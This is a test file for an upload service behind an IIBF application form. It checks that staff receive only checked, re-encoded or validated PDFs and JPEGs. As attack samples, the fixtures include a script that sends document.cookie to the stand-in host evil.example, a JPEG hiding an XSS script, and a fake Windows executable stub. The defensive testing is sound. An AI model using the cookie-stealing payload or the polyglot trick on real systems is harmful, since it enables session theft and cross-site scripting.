/**
 * A document is judged by the bytes staff will open. An upload policy can be used again and again
 * until it expires, so whatever is posted with it after the check — an HTML page, a Windows
 * program — must never reach staff: the check keeps the bytes it judged under a key no policy
 * names, and staff get those, under a name the server makes from the document and its checked
 * type. Images are re-encoded from their pixels (a JPEG that is also a web page loses the page),
 * what does not decode is refused, and a PDF must be one from its first byte to its end. On the
 * local folder, the functions in this process (the S3 side: storage-s3.test.ts).
 */
import { createHash, randomBytes, randomUUID } from 'node:crypto';
import { existsSync } from 'node:fs';
import path from 'node:path';
import type pg from 'pg';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { IIBF_FORM } from '../../src/lib/schemas/application-forms';
import { BASE, closeInProcess, jsonPost, openInProcess, sqlOn, type InProcess } from '../support/in-process';
import { pdfBytes } from '../support/pdf';
import { photoBytes } from '../support/photo';
import { staffCookie } from '../support/staff-session';

let fx: InProcess;
let client: pg.Client;
let cookie: string;

beforeAll(async () => {
  ({ fx, client } = await openInProcess({
    functions: ['uploads', 'uploads-local', 'uploads-check', 'uploads-local-link', 'iibf', 'application-fix', 'admin-document', 'housekeeping'],
  }));
  cookie = await staffCookie(client);
});

afterAll(() => closeInProcess({ fx, client }));

const sql = sqlOn(() => client);
/** Whether the local folder holds an object under `key`. */
const stored = (key: string) => existsSync(path.join(fx.scratch, 'uploads', key));

/** A web page with a script, as someone would post it to steal a session. */
const HTML = Buffer.from('<!doctype html><html><body><script>fetch("https://evil.example/?c=" + document.cookie)</script></body></html>\n');
/** The start of a Windows program (`MZ`, the DOS stub's pointer, `PE`). */
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0'), randomBytes(512)]);
/** A real JPEG photo. */
const photo = (width = 120, height = 90) => photoBytes({ width, height });

/** `jpeg` with a web page hidden in a comment segment and another after its end: a JPEG that is also HTML. */
function jpegWithPage(jpeg: Buffer): Buffer {
  const page = Buffer.from('<html><body><script>alert(document.domain)</script></body></html>');
  const length = Buffer.alloc(2);
  length.writeUInt16BE(page.length + 2);
  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, page, jpeg.subarray(2), HTML]);
}

type Owner = { form: 'iibf'; draft: string } | { fix: string };
interface Policy {
  uploadId: string;
  key: string;
  url: string;
  fields: Record<string, string>;
}
interface TestFile {
  name: string;
  type: string;
  bytes: Buffer;
}

async function policyFor(owner: Owner, slot: string, file: TestFile): Promise<Policy> {
  const { response } = await fx.call('uploads', jsonPost('/api/uploads', { ...owner, slot, name: file.name, type: file.type, size: file.bytes.length }));
  expect(response.status, await response.clone().text()).toBe(201);
  return response.json();
}

/** Posts `bytes` with the policy's fields to its URL, as the browser's uploader does; the status. */
async function post(policy: Policy, bytes: Buffer): Promise<number> {
  const form = new FormData();
  for (const [name, value] of Object.entries(policy.fields)) form.set(name, value);
  form.set('file', new Blob([new Uint8Array(bytes)]));
  const { response } = await fx.call('uploads-local', new Request(policy.url, { method: 'POST', body: form }));
  return response.status;
}

const check = async (uploadId: string, owner: Owner) =>
  (await fx.call('uploads-check', jsonPost('/api/uploads/check', 'fix' in owner ? { uploadId, fix: owner.fix } : { uploadId, draft: owner.draft }))).response;

/** A policy, the file posted with it and checked, as the form does. */
async function upload(owner: Owner, slot: string, file: TestFile): Promise<Policy> {
  const policy = await policyFor(owner, slot, file);
  expect(await post(policy, file.bytes)).toBe(201);
  const checked = await check(policy.uploadId, owner);
  expect(checked.status, await checked.clone().text()).toBe(200);
  return policy;
}

/** What staff get when they open the document: the link's terms, and the file through the link. */
async function staffOpens(uploadId: string) {
  const { response } = await fx.call('admin-document', new Request(`${BASE}/api/admin/documents/${uploadId}`, { headers: { cookie } }), {
    params: { uploadId },
  });
  expect(response.status, await response.clone().text()).toBe(200);
  const link = (await response.json()) as { url: string; type: string; name: string };
  const file = (await fx.call('uploads-local-link', new Request(new URL(link.url, BASE)))).response;
  expect(file.status).toBe(200);
  return { link, type: file.headers.get('content-type'), disposition: file.headers.get('content-disposition'), bytes: Buffer.from(await file.arrayBuffer()) };
}

const pdf = (name: string, text: string): TestFile => ({ name, type: 'application/pdf', bytes: pdfBytes(text) });
const jpegFile = async (name: string, bytes?: Buffer): Promise<TestFile> => ({ name, type: 'image/jpeg', bytes: bytes ?? (await photo()) });

/** Every IIBF document uploaded and checked for a new fill; the policies by slot and the files sent. */
async function iibfDocuments(draft: string) {
  const files: Record<string, TestFile> = {
    aadhaarCard: pdf('aadhaar.pdf', 'Aadhaar card'),
    panCard: pdf('marksheet.pdf.exe', 'PAN card'),
    photo: await jpegFile('photo.jpg', jpegWithPage(await photo(160, 200))),
    signature: await jpegFile('sign.jpg'),
    qualificationDoc: pdf('degree.pdf', 'Degree'),
    casteCertificate: pdf('caste.pdf', 'Caste certificate'),
  };
  const policies: Record<string, Policy> = {};
  for (const doc of IIBF_FORM.documents) policies[doc.slot] = await upload({ form: 'iibf', draft }, doc.slot, files[doc.slot]!);
  return { files, policies, ids: Object.fromEntries(Object.entries(policies).map(([slot, p]) => [slot, p.uploadId])) };
}

async function submitIibf(draft: string, documents: Record<string, string>) {
  const mobile = `9${String(Math.floor(Math.random() * 1e9)).padStart(9, '0')}`;
  const answers = {
    applicantName: 'POOJA SHARMA',
    email: `pooja.${randomUUID().slice(0, 8)}@example.in`,
    mobile,
    motherName: 'GEETA SHARMA',
    fatherName: 'RAJ SHARMA',
  };
  const { response } = await fx.call('iibf', jsonPost('/api/IIBF', { ...answers, documents, draft, consent: true }));
  expect(response.status, await response.clone().text()).toBe(201);
  const { reference } = (await response.json()) as { reference: string };
  const [lead] = await sql<{ id: string }>('select id::text from leads where reference = $1', [reference]);
  return { reference, leadId: lead!.id };
}

/** Staff asked the applicant of `leadId` to send `slots` again: the link's token. */
async function fixAsked(leadId: string, slots: string[]): Promise<string> {
  const token = randomBytes(32).toString('base64url');
  await sql(`update leads set status = 'documents-to-fix' where id = $1`, [leadId]);
  await sql(
    `update applications set fix_slots = $2, fix_note = 'Please scan it again.', fix_token_hash = $3, fix_requested_at = now(), fix_expires_at = now() + interval '14 days' where lead_id = $1`,
    [leadId, slots, createHash('sha256').update(token).digest('hex')],
  );
  return token;
}

describe('what staff open is what was checked', () => {
  it('a PDF re-posted as an HTML page or a program after its check, before and after the submit: staff get the checked PDF, named aadhaar-card.pdf', async () => {
    const draft = randomUUID();
    const { files, policies, ids } = await iibfDocuments(draft);
    // The same policies, still valid, used again after the check and before the submit…
    expect(await post(policies['aadhaarCard']!, HTML)).toBe(201);
    expect(await post(policies['panCard']!, EXE)).toBe(201);
    await submitIibf(draft, ids);
    // …and after it.
    expect(await post(policies['aadhaarCard']!, EXE)).toBe(201);
    expect(await post(policies['panCard']!, HTML)).toBe(201);

    const aadhaar = await staffOpens(ids['aadhaarCard']!);
    expect(aadhaar.link).toMatchObject({ type: 'application/pdf', name: 'aadhaar-card.pdf' });
    expect(aadhaar.type).toBe('application/pdf');
    expect(aadhaar.disposition).toBe(`attachment; filename="aadhaar-card.pdf"; filename*=UTF-8''aadhaar-card.pdf`);
    expect(aadhaar.bytes.equals(files['aadhaarCard']!.bytes)).toBe(true);

    // Sent as "marksheet.pdf.exe": served as what its bytes are, under the document's name.
    const pan = await staffOpens(ids['panCard']!);
    expect(pan.link).toMatchObject({ type: 'application/pdf', name: 'pan-card.pdf' });
    expect(pan.disposition).toBe(`attachment; filename="pan-card.pdf"; filename*=UTF-8''pan-card.pdf`);
    expect(pan.bytes.equals(files['panCard']!.bytes)).toBe(true);

    // Asked to check again, the upload keeps its verdict: the later bytes are not read.
    const again = await check(ids['aadhaarCard']!, { form: 'iibf', draft });
    expect(again.status).toBe(200);
    expect(await again.json()).toEqual({ uploadId: ids['aadhaarCard'], type: 'application/pdf', size: files['aadhaarCard']!.bytes.length });
  });

  it('a document sent again through the fix link and re-posted after its check: staff get the checked PDF', async () => {
    const draft = randomUUID();
    const { ids } = await iibfDocuments(draft);
    const { leadId } = await submitIibf(draft, ids);
    const token = await fixAsked(leadId, ['panCard']);

    const clearer = pdf('pan-clear.pdf', 'PAN card, whole');
    const policy = await upload({ fix: token }, 'panCard', clearer);
    expect(await post(policy, EXE)).toBe(201);
    const { response } = await fx.call('application-fix', jsonPost('/api/applications/fix', { token, documents: { panCard: policy.uploadId } }));
    expect(response.status, await response.clone().text()).toBe(200);
    expect(await post(policy, HTML)).toBe(201);

    const pan = await staffOpens(policy.uploadId);
    expect(pan.link).toMatchObject({ type: 'application/pdf', name: 'pan-card.pdf' });
    expect(pan.bytes.equals(clearer.bytes)).toBe(true);
  });

  it('a JPEG that is also a web page is kept re-encoded from its pixels, with no trace of the page', async () => {
    const draft = randomUUID();
    const { ids } = await iibfDocuments(draft);
    await submitIibf(draft, ids);
    const opened = await staffOpens(ids['photo']!);
    expect(opened.link).toMatchObject({ type: 'image/jpeg', name: 'photo.jpg' });
    expect(opened.type).toBe('image/jpeg');
    const text = opened.bytes.toString('latin1').toLowerCase();
    for (const markup of ['<html', '<script', '<body', '<!doctype']) expect(text).not.toContain(markup);
    expect(await sharp(opened.bytes).metadata()).toMatchObject({ format: 'jpeg', width: 160, height: 200 });
    const [row] = await sql<{ size: number }>('select size from uploads where id = $1', [ids['photo']]);
    expect(row!.size).toBe(opened.bytes.length);
  });
});

describe('what does not decode, or is not a PDF from first byte to last, is refused', () => {
  /** Uploads `file` for `slot` of a new fill and asks for its check; the answer and the upload's row. */
  async function checked(slot: string, file: TestFile) {
    const owner = { form: 'iibf' as const, draft: randomUUID() };
    const policy = await policyFor(owner, slot, file);
    expect(await post(policy, file.bytes)).toBe(201);
    const res = await check(policy.uploadId, owner);
    const [row] = await sql<{ delete_reason: string | null }>('select delete_reason from uploads where id = $1', [policy.uploadId]);
    return { status: res.status, body: (await res.json()) as { message: string; errors?: Record<string, string> }, row: row!, policy };
  }

  it('refuses a JPEG that does not decode, or only half of one, with a message for people, and deletes it', async () => {
    const whole = await photo(400, 300);
    const broken = Buffer.concat([whole.subarray(0, 20), randomBytes(2000)]);
    const half = whole.subarray(0, Math.floor(whole.length / 2));
    for (const bytes of [broken, half]) {
      const { status, body, row, policy } = await checked('photo', { name: 'photo.jpg', type: 'image/jpeg', bytes });
      const message = 'This JPEG photo could not be opened: it is damaged or not a real photo. Please choose the photo again.';
      expect({ status, message: body.message, errors: body.errors }).toEqual({ status: 422, message, errors: { photo: message } });
      expect(row.delete_reason).toBe('refused');
      expect(stored(policy.key)).toBe(false);
    }
  });

  it('refuses a PDF with a web page after its end or at its start, and takes a real one', async () => {
    // Longer than the first kilobyte, where a web page counts as at the start.
    const real = pdfBytes('Marksheet of the Board of Secondary Education, Rajasthan. '.repeat(40));
    expect((await checked('qualificationDoc', { name: 'degree.pdf', type: 'application/pdf', bytes: real })).status).toBe(200);

    const damaged = 'This PDF is damaged or has something added after its end. Please save or scan it again as a PDF and choose it again.';
    const withPage = 'This file is not a real PDF: it also holds a web page. Please choose the PDF again.';
    const cases: [Buffer, string][] = [
      [Buffer.concat([real, HTML]), damaged],
      [Buffer.concat([real, EXE]), damaged],
      [Buffer.concat([real.subarray(0, real.length - 7)]), damaged],
      [Buffer.concat([Buffer.from('%PDF-1.4\n'), HTML, real.subarray(9)]), withPage],
    ];
    for (const [bytes, message] of cases) {
      const { status, body, row } = await checked('qualificationDoc', { name: 'degree.pdf', type: 'application/pdf', bytes });
      expect({ status, errors: body.errors }).toEqual({ status: 422, errors: { qualificationDoc: message } });
      expect(row.delete_reason).toBe('refused');
    }
  });
});

describe('uploads side by side, and what a policy leaves behind', () => {
  it('four uploads at once (policy, post, check) all succeed, each kept under a key no policy names', async () => {
    const owner = { form: 'iibf' as const, draft: randomUUID() };
    const slots = ['aadhaarCard', 'panCard', 'qualificationDoc', 'casteCertificate'];
    const files = slots.map((slot) => pdf(`${slot}.pdf`, `Scan of ${slot}`));
    const started = Date.now();
    const policies = await Promise.all(slots.map((slot, i) => upload(owner, slot, files[i]!)));
    console.log(`four parallel uploads in ${Date.now() - started} ms`);
    const rows = await sql<{ id: string; key: string; posted_key: string; size: number }>(
      'select id::text, key, posted_key, size from uploads where id = any($1::uuid[])',
      [policies.map((p) => p.uploadId)],
    );
    for (const [i, policy] of policies.entries()) {
      const row = rows.find((r) => r.id === policy.uploadId)!;
      expect(row).toMatchObject({ posted_key: policy.key, size: files[i]!.bytes.length });
      expect(row.key).not.toBe(policy.key);
      expect(stored(row.key)).toBe(true);
      // The object the policy wrote is deleted once its bytes are kept.
      expect(stored(policy.key)).toBe(false);
    }
  });

  it('housekeeping deletes what is posted with a policy after its check, once the policy has expired, and keeps the document', async () => {
    const owner = { form: 'iibf' as const, draft: randomUUID() };
    const policy = await upload(owner, 'aadhaarCard', pdf('aadhaar.pdf', 'Aadhaar card'));
    expect(await post(policy, HTML)).toBe(201);
    expect(stored(policy.key)).toBe(true);
    await sql(`update uploads set expires_at = now() - interval '1 minute' where id = $1`, [policy.uploadId]);

    expect((await fx.call('housekeeping', new Request(`${BASE}/.netlify/functions/housekeeping`, { method: 'POST' }))).response.status).toBe(204);
    expect(stored(policy.key)).toBe(false);
    const [row] = await sql<{ key: string; deleted_at: Date | null }>('select key, deleted_at from uploads where id = $1', [policy.uploadId]);
    expect(row!.deleted_at).toBeNull();
    expect(stored(row!.key)).toBe(true);
    const logged = await sql(`select reason from deletion_log where detail->'keys' ? $1`, [policy.key]);
    expect(logged).toEqual([{ reason: 'orphan' }]);
  });
});
